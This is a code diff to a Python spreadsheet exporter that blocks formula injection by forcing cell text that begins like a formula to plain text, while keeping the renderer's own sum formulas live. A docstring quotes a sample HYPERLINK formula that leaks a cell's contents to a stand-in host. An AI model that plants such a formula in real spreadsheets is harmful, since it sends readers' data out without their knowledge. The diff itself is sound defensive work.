@@ -179,6 +179,22 @@ class Sheet:
     landscape: bool = False
 
 
+# Text that Excel, LibreOffice or a CSV import would read as a formula if it began a cell.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def as_text(cell):
+    """The cell, written as text (never a formula) when its text begins like one.
+
+    openpyxl turns a string starting with "=" into a live formula: a scheme named
+    =HYPERLINK("http://x/?leak="&A1, …) would run in the reader's Excel. quotePrefix also keeps
+    Excel from reading the text as a formula when someone edits the cell."""
+    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    return cell
+
+
 def xlsx(
     rows: Iterable[Sequence] | None = None,
     *,
@@ -240,7 +256,7 @@ def _write_sheet(workbook, sheet: Sheet) -> Iterator[None]:
             made.number_format = fmt
         if alignment is not None:
             made.alignment = alignment
-        return made
+        return made if isinstance(value, Formula) else as_text(made)
 
     def fmt(column: int) -> str:
         return sheet.formats[column] if column < len(sheet.formats) else TEXT
@@ -284,12 +300,17 @@ def _write_sheet(workbook, sheet: Sheet) -> Iterator[None]:
         worksheet.append([cell(value, bold, fmt(column)) for column, value in enumerate(values)])
 
 
-def _sum(column: int, first: int, last: int, *, nested: bool = True) -> str:
+class Formula(str):
+    """A formula the renderer writes itself (a column's sum): any other text that begins like
+    one is data, written as text (:func:`as_text`)."""
+
+
+def _sum(column: int, first: int, last: int, *, nested: bool = True) -> Formula:
     """A column's sum over rows ``first``..``last``. SUBTOTAL(9, …) where the range holds
     group subtotals, which it leaves out, so nothing is counted twice."""
     letter = _column_letter(column)
     cells = f"{letter}{first}:{letter}{max(first, last)}"
-    return f"=SUBTOTAL(9,{cells})" if nested else f"=SUM({cells})"
+    return Formula(f"=SUBTOTAL(9,{cells})" if nested else f"=SUM({cells})")
 
 
 def _sheet_title(title: str) -> str:
